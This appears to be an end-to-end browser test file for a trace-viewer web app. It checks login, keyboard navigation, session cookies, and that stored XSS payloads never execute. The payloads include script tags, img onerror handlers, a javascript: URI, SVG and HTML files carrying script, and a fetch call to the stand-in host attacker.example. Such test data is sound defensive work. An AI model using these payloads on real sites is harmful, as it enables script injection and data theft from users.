/**
 * The viewer in a real browser (Debian's Chromium through playwright-core): login, keyboard
 * navigation, recorded strings that try to run script, and files whose type could run script.
 * The trace is sent as OTLP JSON with its files uploaded through the documented routes; the
 * SDK-recorded trace with every kind of file is `packages/sdk/src/viewer.e2e.test.ts`.
 */
import { readFileSync } from 'node:fs';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { BROWSER_TEST_MILLIS } from '../../../../scripts/chromium.mjs';
import { type RunningServer, startServer } from '../start-server.js';
import { launchChromium, type PageWatch, screenshot, watchPage } from '../test-support/browser.js';
import {
  blobsAttribute,
  entryOf,
  fileEvent,
  ingest,
  sha256Of,
  upload,
} from '../test-support/media-fixtures.js';
import { jsonSpan, newSpanId, newTraceId, str, tracesRequest } from '../test-support/otlp-fixtures.js';

// Chromium on a loaded 2-core machine: waits for what the page reaches, not a time margin.
vi.setConfig({ testTimeout: BROWSER_TEST_MILLIS, hookTimeout: BROWSER_TEST_MILLIS });

const cat = readFileSync(new URL('../../../../fixtures/media/cat.png', import.meta.url));
const svg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'svg-onload\')"><script>alert("svg-script")</script><rect width="10" height="10"/></svg>',
);
const htmlFile = Buffer.from('<!doctype html><script>alert("html-file")</script><p>a page</p>');

const XSS = {
  rootName: '<script>alert("root-name")</script>agent',
  chatName: 'chat <img src=x onerror=alert("chat-name")>',
  attribute: '<img src="https://attacker.example/attr.png" onerror="alert(\'attribute\')">',
  link: 'javascript:alert("link")',
  text: '<script>fetch("https://attacker.example/steal")</script><b onmouseover=alert("text")>hover</b>',
  fileName: '"><img src=x onerror=alert("file-name")>.png',
};

let server: RunningServer;
let browser: Browser;
let context: BrowserContext;
const t = { traceId: '', root: '', chat: '', tool: '', failing: '', last: '' };

beforeAll(async () => {
  server = await startServer();
  browser = await launchChromium();
  t.traceId = newTraceId();
  t.root = newSpanId();
  t.chat = newSpanId();
  t.tool = newSpanId();
  t.failing = newSpanId();
  t.last = newSpanId();
  const at = (ms: number) => String(1763740800000000000n + BigInt(ms) * 1_000_000n);
  await upload(server, t.traceId, cat, { key: 'gen_ai.input.messages#/0/parts/1' });
  await upload(server, t.traceId, svg, {
    key: `event:svc.file:${sha256Of(svg)}`,
    contentType: 'image/svg+xml',
  });
  await upload(server, t.traceId, htmlFile, {
    key: `event:svc.file:${sha256Of(htmlFile)}`,
    contentType: 'text/html',
  });
  const input = [
    {
      role: 'user',
      parts: [
        { type: 'text', content: XSS.text },
        { type: 'blob', modality: 'image', mime_type: 'image/png', sha256: sha256Of(cat), size: cat.length },
        { type: 'uri', modality: 'image', uri: XSS.link },
      ],
    },
  ];
  await ingest(
    server,
    'traces',
    tracesRequest([
      jsonSpan(t.traceId, {
        spanId: t.root,
        name: XSS.rootName,
        startTimeUnixNano: at(0),
        endTimeUnixNano: at(900),
      }),
      jsonSpan(t.traceId, {
        spanId: t.chat,
        parentSpanId: t.root,
        name: XSS.chatName,
        startTimeUnixNano: at(10),
        endTimeUnixNano: at(400),
        attributes: [
          str('gen_ai.operation.name', 'chat'),
          str('gen_ai.request.model', 'gpt-4o'),
          str('gen_ai.input.messages', JSON.stringify(input)),
          str('app.note', XSS.attribute),
          blobsAttribute([
            entryOf(cat, { key: 'gen_ai.input.messages#/0/parts/1', name: XSS.fileName }),
            entryOf(svg, {
              key: `event:svc.file:${sha256Of(svg)}`,
              content_type: 'image/svg+xml',
              name: 'drawing.svg',
            }),
            entryOf(htmlFile, {
              key: `event:svc.file:${sha256Of(htmlFile)}`,
              content_type: 'text/html',
              name: 'page.html',
            }),
          ]),
        ],
        events: [
          fileEvent(svg, { mediaType: 'image/svg+xml', name: 'drawing.svg', role: 'output' }),
          fileEvent(htmlFile, { mediaType: 'text/html', name: 'page.html', role: 'output' }),
        ],
      }),
      jsonSpan(t.traceId, {
        spanId: t.tool,
        parentSpanId: t.chat,
        name: 'execute_tool lookup',
        startTimeUnixNano: at(100),
        endTimeUnixNano: at(200),
      }),
      jsonSpan(t.traceId, {
        spanId: t.failing,
        parentSpanId: t.root,
        name: 'failing step',
        startTimeUnixNano: at(450),
        endTimeUnixNano: at(600),
        status: { code: 2, message: 'boom' },
      }),
      jsonSpan(t.traceId, {
        spanId: t.last,
        parentSpanId: t.root,
        name: 'last step',
        startTimeUnixNano: at(700),
        endTimeUnixNano: at(890),
      }),
    ]),
  );
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

async function newPage(): Promise<{ page: Page; watch: PageWatch }> {
  const page = await context.newPage();
  return { page, watch: watchPage(page, server.origin) };
}

async function logInThroughForm(page: Page, key: string): Promise<void> {
  await page.goto(`${server.origin}/login`);
  await page.fill('#key', key);
  await page.click('button[type=submit]');
}

describe('the viewer in Chromium', () => {
  // A context logged in with a Read key, for the tests after the login test.
  beforeAll(async () => {
    context = await browser.newContext({ acceptDownloads: true, viewport: { width: 1400, height: 900 } });
    const page = await context.newPage();
    await logInThroughForm(page, server.keys.read);
    await page.waitForURL(`${server.origin}/traces`);
    await page.close();
  });
  afterAll(async () => {
    await context?.close();
  });

  it('refuses a tracing key with a message saying which key to use, and logs in with a Read key', async () => {
    const fresh = await browser.newContext({ viewport: { width: 1400, height: 900 } });
    const page = await fresh.newPage();
    await logInThroughForm(page, server.keys.tracing);
    await expect
      .poll(() => page.textContent('[role=alert]'))
      .toContain('Log in with a Read key or a Read-and-write key');
    expect(await page.inputValue('#key')).toBe('');
    await screenshot(page, 'login-refused');
    expect((await fresh.cookies()).length).toBe(0);

    await logInThroughForm(page, server.keys.read);
    await page.waitForURL(`${server.origin}/traces`);
    expect(await page.textContent('h1')).toBe('Traces');
    const cookie = (await fresh.cookies()).find((c) => c.name === 'svc_viewer_session');
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/' });
    await screenshot(page, 'trace-list');
    await fresh.close();
  });

  it('runs nothing a recorded string holds: span names, attributes, message text, file names', async () => {
    const { page, watch } = await newPage();
    await page.goto(`${server.origin}/traces/${t.traceId}?span=${t.chat}`);
    await page.waitForSelector('.span-detail');
    expect(await page.textContent('h1')).toBe(XSS.rootName);
    expect(await page.textContent('#detail h2')).toBe(XSS.chatName);
    expect(await page.textContent('#detail .part.text pre')).toBe(XSS.text);
    expect(await page.textContent('#detail .file .name')).toBe(XSS.fileName);
    expect(await page.locator('table.kv pre', { hasText: 'attacker.example/attr.png' }).textContent()).toBe(
      XSS.attribute,
    );
    // A javascript: URI is never a link.
    expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
    expect(await page.textContent('#detail .remote')).toContain(XSS.link);
    // Hovering and clicking through the page and the spans runs nothing either.
    await page.hover('#detail .part.text pre');
    await page.keyboard.press('k');
    await page.waitForSelector(`#detail [data-span-id="${t.root}"]`);
    await page.keyboard.press('j');
    await page.waitForSelector(`#detail [data-span-id="${t.chat}"]`);
    await screenshot(page, 'trace-xss');
    await page.reload();
    await page.waitForSelector('.span-detail');
    expect(watch.dialogs).toEqual([]);
    expect(watch.outside).toEqual([]);
    await page.close();
  });

  it('never renders an SVG or HTML file as a document: they are downloads', async () => {
    const { page, watch } = await newPage();
    await page.goto(`${server.origin}/traces/${t.traceId}?span=${t.chat}`);
    await page.waitForSelector('.span-detail');
    for (const [name, bytes] of [
      ['drawing.svg', svg],
      ['page.html', htmlFile],
    ] as const) {
      const sha = sha256Of(bytes);
      // Not shown in place: no image, frame, object or embed loads it.
      expect(await page.locator(`img[src*="${sha}"], iframe, object, embed`).count()).toBe(0);
      const link = page.locator(`#detail a.doc`, { hasText: name });
      const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
      expect(download.suggestedFilename()).toBe(name);
      // Opened directly, the browser downloads it instead of showing it.
      const direct = await context.newPage();
      const [directDownload] = await Promise.all([
        direct.waitForEvent('download'),
        direct
          .goto(`${server.origin}/traces/${t.traceId}/files/${sha}?span=${t.chat}`)
          .catch(() => undefined),
      ]);
      expect(directDownload.suggestedFilename()).toBe(name);
      await direct.close();
    }
    expect(watch.dialogs).toEqual([]);
    expect(watch.outside).toEqual([]);
    await page.close();
  });

  it('moves the selection with j/k, h/l and e, and / focuses the search', async () => {
    const { page } = await newPage();
    await page.goto(`${server.origin}/traces/${t.traceId}`);
    const spanOf = (href: string | null) => new URL(href ?? '', server.origin).searchParams.get('span');
    const selected = async () => ({
      row: spanOf(await page.locator('#tree a.s').getAttribute('href')),
      detail: await page.locator('#detail [data-span-id]').getAttribute('data-span-id'),
      url: spanOf(page.url()),
    });
    const expectSelected = async (spanId: string) => {
      await expect.poll(selected).toEqual({ row: spanId, detail: spanId, url: spanId });
    };
    // The tree: root, chat, tool (child of chat), failing step (error), last step.
    expect(spanOf(await page.locator('#tree a.s').getAttribute('href'))).toBe(t.root);
    await page.keyboard.press('j');
    await expectSelected(t.chat);
    await page.keyboard.press('l');
    await expectSelected(t.tool);
    await page.keyboard.press('h');
    await expectSelected(t.chat);
    await page.keyboard.press('e');
    await expectSelected(t.failing);
    await page.keyboard.press('j');
    await expectSelected(t.last);
    await page.keyboard.press('k');
    await expectSelected(t.failing);
    await page.goBack();
    await expectSelected(t.last);
    await page.keyboard.press('/');
    expect(await page.evaluate('document.activeElement && document.activeElement.id')).toBe('q');
    await page.close();
  });

  it('opens a trace link clicked on another site with the session (SameSite=Strict)', async () => {
    const { page } = await newPage();
    await page.route('http://elsewhere.test/**', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<a id="go" href="${server.origin}/traces/${t.traceId}">the trace</a>`,
      }),
    );
    await page.goto('http://elsewhere.test/chat');
    await page.click('#go');
    // Either the trace (the session came along) or the login page (it did not).
    await page.waitForSelector('.span-detail, #key');
    expect(new URL(page.url()).pathname).toBe(`/traces/${t.traceId}`);
    expect(await page.textContent('h1')).toBe(XSS.rootName);
    await page.close();
  });
});
